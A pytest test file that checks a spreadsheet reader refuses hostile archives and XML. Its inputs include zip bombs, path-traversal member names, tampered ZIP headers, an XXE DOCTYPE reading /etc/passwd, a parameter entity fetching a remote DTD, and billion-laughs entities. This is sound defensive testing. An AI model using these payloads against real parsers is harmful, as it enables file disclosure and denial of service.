"""Hostile archives and XML: refused by their directory or their first bytes, before anything is unpacked."""

from __future__ import annotations

import struct
import time
import tracemalloc
import warnings
import zipfile
from collections.abc import Callable

import pytest

from instruments.contract import ParseError, RawFile
from instruments.tables import read_table
from tests.instruments.makers import SHEET, archive, parts


def refused(file: RawFile) -> str:
    """The code of the refusal, which must come within a second and 200 MB."""
    tracemalloc.start()
    started = time.process_time()
    try:
        with pytest.raises(ParseError) as caught:
            read_table(file)
        assert time.process_time() - started < 1
        assert tracemalloc.get_traced_memory()[1] < 200_000_000
    finally:
        tracemalloc.stop()
    return caught.value.code


def bomb() -> RawFile:
    return archive(parts(sheet=b" " * 20_000_000))


def many_small_bombs() -> RawFile:
    return archive(parts() | {f"xl/media/image{number}.bin": b"\0" * 900_000 for number in range(200)})


def nested() -> RawFile:
    return archive(parts() | {"xl/embeddings/inner.bin": archive(parts()).content})


def many_members() -> RawFile:
    return archive(parts() | {f"xl/media/{number}.bin": b"x" for number in range(1_200)})


def same_name_twice() -> RawFile:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)
        return archive([*parts().items(), ("xl/worksheets/sheet1.xml", SHEET)])


def same_name_in_capitals() -> RawFile:
    return archive(parts() | {"XL/WORKSHEETS/SHEET1.XML": SHEET})


def leaves_the_folder() -> RawFile:
    return archive(parts() | {"../../outside.xml": "<a/>"})


def absolute_name() -> RawFile:
    return archive(parts() | {"/etc/outside.xml": "<a/>"})


def drive_name() -> RawFile:
    return archive(parts() | {"C:\\outside.xml": "<a/>"})


def patched(position: int, value: bytes) -> RawFile:
    """Overwrite bytes in the first directory entry of a good workbook."""
    content = bytearray(archive(parts()).content)
    start = content.index(b"PK\x01\x02") + position
    content[start : start + len(value)] = value
    return RawFile("table.xlsx", bytes(content))


def size_too_large() -> RawFile:
    return patched(24, struct.pack("<I", 2_000_000_000))


def size_too_small() -> RawFile:
    return patched(24, struct.pack("<I", 1))


def packed_size_too_large() -> RawFile:
    return patched(20, struct.pack("<I", 1_000_000))


def zip64_without_its_field() -> RawFile:
    return patched(24, b"\xff\xff\xff\xff")


def offset_into_another_member() -> RawFile:
    content = bytearray(archive(parts()).content)
    second = content.index(b"PK\x01\x02", content.index(b"PK\x01\x02") + 1)
    content[second + 42 : second + 46] = struct.pack("<I", 0)
    return RawFile("table.xlsx", bytes(content))


def password() -> RawFile:
    return patched(8, struct.pack("<H", 1))


def other_compression() -> RawFile:
    return archive(parts(), zipfile.ZIP_LZMA)


def cut_off() -> RawFile:
    content = archive(parts()).content
    return RawFile("table.xlsx", content[: len(content) * 2 // 3])


def bad_checksum() -> RawFile:
    content = bytearray(archive(parts(), zipfile.ZIP_STORED).content)
    position = content.index(b"24.1")
    content[position] = ord("9")
    return RawFile("table.xlsx", bytes(content))


@pytest.mark.assurance("F1")
@pytest.mark.parametrize(
    ("make", "codes"),
    [
        (bomb, {"ratio_too_high"}),
        (many_small_bombs, {"unpacks_too_large"}),
        (nested, {"archive_in_archive"}),
        (many_members, {"too_many_members"}),
        (same_name_twice, {"duplicate_member"}),
        (same_name_in_capitals, {"duplicate_member"}),
        (leaves_the_folder, {"unsafe_member_name"}),
        (absolute_name, {"unsafe_member_name"}),
        (drive_name, {"unsafe_member_name"}),
        (size_too_large, {"unpacks_too_large"}),
        (size_too_small, {"damaged_file", "doctype"}),
        (packed_size_too_large, {"overlapping_members"}),
        (zip64_without_its_field, {"unpacks_too_large", "damaged_file"}),
        (offset_into_another_member, {"overlapping_members", "damaged_file"}),
        (password, {"encrypted", "damaged_file"}),
        (other_compression, {"unusual_compression"}),
        (cut_off, {"damaged_file"}),
        (bad_checksum, {"damaged_file"}),
    ],
    ids=lambda value: value.__name__ if callable(value) else "",
)
def test_a_hostile_archive_is_refused(make: Callable[[], RawFile], codes: set[str]):
    assert refused(make()) in codes


def test_the_smallest_workbook_is_read():
    assert read_table(archive(parts())).sheets[0].rows[1].text(1) == "24.1"


EXTERNAL = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
PARAMETER = '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://192.0.2.1/p.dtd"> %p;]>'
LAUGHS = '<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]>'
BARE = "<!DOCTYPE worksheet>"


def with_doctype(doctype: str) -> str:
    head, _, body = SHEET.partition("?>")
    return f"{head}?>{doctype}{body}"


@pytest.mark.assurance("F2")
@pytest.mark.parametrize("doctype", [EXTERNAL, PARAMETER, LAUGHS, BARE], ids=["external", "parameter", "laughs", "bare"])
@pytest.mark.parametrize("member", ["sheet", "book", "other"])
def test_a_document_type_is_refused_in_any_member(doctype: str, member: str):
    content = with_doctype(doctype)
    members = parts() | {"docProps/custom.xml": content} if member == "other" else parts(**{member: content})
    assert refused(archive(members)) == "doctype"


@pytest.mark.assurance("F2")
@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be"])
def test_a_document_type_does_not_hide_in_another_encoding(encoding: str):
    content = with_doctype(LAUGHS).replace('version="1.0"', 'version="1.0" encoding="UTF-16"').encode(encoding)
    assert refused(archive(parts(sheet=content))) in ("doctype", "damaged_file")


@pytest.mark.assurance("F2")
@pytest.mark.parametrize("head", [b"", b"\xef\xbb\xbf", b" \n"])
def test_plain_xml_is_refused_by_what_it_is(head: bytes):
    assert refused(RawFile("sample.rdml", head + b'<?xml version="1.0"?>' + LAUGHS.encode() + b"<rdml/>")) == "xml_not_supported"


@pytest.mark.parametrize(
    ("content", "code"),
    [(b"", "empty_file"), (b"%PDF-1.7", "not_a_table"), (b"<html><table>", "html_page"), (b"PK\x05\x06" + b"\0" * 18, "not_a_table")],
)
def test_the_type_is_told_by_content(content: bytes, code: str):
    assert refused(RawFile("results.csv", content)) == code
